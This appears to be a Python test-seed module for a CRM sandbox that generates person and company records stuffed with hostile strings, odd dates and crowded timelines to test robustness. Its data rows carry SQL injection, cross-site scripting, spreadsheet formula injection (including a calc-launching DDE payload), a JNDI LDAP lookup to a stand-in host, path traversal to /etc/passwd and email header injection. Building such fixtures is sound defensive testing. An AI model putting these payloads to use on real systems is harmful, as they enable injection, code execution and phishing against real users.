"""People whose records break careless software.

Each row changes an ordinary, qualifying person, so that the hostile text travels the whole way: into scores, reasons,
tasks and pages. Nothing here holds a NUL: no CRM stores one.
"""

from __future__ import annotations

import unicodedata
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from sandbox.seed import SeedCompany, SeedEvent, SeedPerson
from sandbox.seeds import content
from sandbox.seeds.moments import view_page
from sandbox.seeds.ordinary import Slot, draw_lead, draw_mql, draw_sql, with_events

_LONG_JOB = "Directora " + "de una división con un nombre muy largo " * 251 + "y algo más"
_DECOMPOSED = unicodedata.normalize("NFD", "Núñez-Ñandú")
_STACKED = "".join(letter + "\u0335\u0322\u035c" for letter in "Zalgo")
_FORMULA = '=HYPERLINK("https://phish.example","Premio")'

# First name, last name, job title ("" keeps the drawn one). Jobs keep a word of the target profile, so that the person
# still qualifies and the hostile text reaches a task.
NAMES_AND_JOBS = (
    ("O'Brien \\' OR 1=1", "'); DROP TABLE contacts;--", ""),
    ("<script>alert(1)</script>", "<img src=x onerror=alert(2)>", "Directora </td><b>"),
    ("Zoë 🦊", "👩🏽‍💻 de la O ❤️", "Head of Growth 🚀🚀🚀"),
    ("ليلى", "الإدريسي \u202egro.elpmaxe\u202c", "مديرة التسويق (Directora)"),
    ("Renata Guadalupe de Jesús", "Núñez", _LONG_JOB),
    (_FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1+1)*CEO"),
    ("Bel\x07la", "Ring\x1b[31mrojo\x1b[0m\x08\x7f", "CEO\x0b\x0c\x85"),
    ("NULL", "NULL", "undefined"),
    (_DECOMPOSED, "Ñandú\u200b\ufeff\u00ad Núñez\u00a0", "DIRECTORA GENERAL"),
    ("${jndi:ldap://phish.example/a}", "{{7*7}} %s %n {0}", "Director ../../etc/passwd"),
    (" \t ", "  ", "  gerente   comercial  "),
    ("true", "1e309", "0"),
    (_STACKED, "\U000e0041\u2066Ω\u2069", "Dıreĉtŏr İstanbul"),
    ("Line\r\nBcc: all@phish.example", "]]>&amp;&lt;", "CMO\n\n- item\n# title"),
)
_COMPANY_NAMES = (
    "Nube\nNueva, S.L.",
    "=1+1 & Hijos",
    "<b>Negrita</b> S.A.",
    "\"Comillas\", 'S.L.'; --",
    "مؤسسة النور",
    "株式会社 例",
)
TURNS = len(NAMES_AND_JOBS)


def draw_hostile(slot: Slot, turn: int) -> SeedPerson:
    """Make the hostile person of this turn: texts everywhere, and odd dates, hostile events or a crowded timeline."""
    person = (draw_sql, draw_mql, draw_lead)[turn % 3](slot)
    first, last, job = NAMES_AND_JOBS[turn % TURNS]
    texts = {"first_name": first, "last_name": last} | ({"job_title": job} if job else {})
    person = replace(person, attributes={**person.attributes, **texts}, company=_rename(person.company, slot.key, turn))
    return (_with_odd_dates, _with_hostile_events, _with_crowded_timeline)[turn % 3](slot, person)


def _rename(company: SeedCompany | None, key: str, turn: int) -> SeedCompany | None:
    """Give an employer of this person's own a hostile name."""
    if company is None:
        return None
    name = _COMPANY_NAMES[turn % len(_COMPANY_NAMES)]
    return replace(company, key=f"{company.key}-{key}", name=name, domain=f"{key}.example")


def _with_odd_dates(slot: Slot, person: SeedPerson) -> SeedPerson:
    """Add events of 1970, of this very instant, and of times to come."""
    epoch = datetime(1970, 1, 1, tzinfo=UTC)
    odd = (
        view_page("/precios", epoch, "pricing"),
        view_page("/precios", slot.now, "pricing"),
        SeedEvent("webinar_attended", slot.now + timedelta(days=40), asset=content.WEBINARS[0][0]),
        SeedEvent(
            "survey_completed", slot.now + timedelta(seconds=1), asset=content.SURVEYS[0], form=content.SURVEYS[0]
        ),
        SeedEvent("note", datetime(2038, 1, 19, 3, 14, 8, tzinfo=UTC), text="Recordar"),
    )
    return with_events(person, odd)


def _with_hostile_events(slot: Slot, person: SeedPerson) -> SeedPerson:
    """Add events whose own texts are hostile."""
    at = slot.days_ago(0.2, 3)
    odd = (
        SeedEvent("page_view", at, url="javascript:alert(3)//precios"),
        SeedEvent("page_view", at, url=f"{content.SITE}/precios?q=<svg/onload=alert(4)>&ñ=%F0%9F%A6%8A#'\""),
        SeedEvent("form_submitted", at, form="</script><script>alert(5)</script>", url=f"{content.SITE}/ñandú"),
        SeedEvent("note", at, text="<p onclick=alert(6)>Hola</p>" + "&nbsp;" * 3 + "🦊" * 400),
        SeedEvent("call", at, channel="phone", direction="incoming", outcome="connected", text="' OR ''='"),
        SeedEvent("email_reply", at, channel="email", direction="incoming", text="=cmd|'/C calc'!A0"),
    )
    return with_events(person, odd)


def _with_crowded_timeline(slot: Slot, person: SeedPerson) -> SeedPerson:
    """Add hundreds of page views, many of them at the same second."""
    start = slot.days_ago(1, 4)
    pages = [view_page(content.BLOG_PAGES[step % 9][0], start + timedelta(seconds=step // 5)) for step in range(600)]
    return with_events(person, pages)
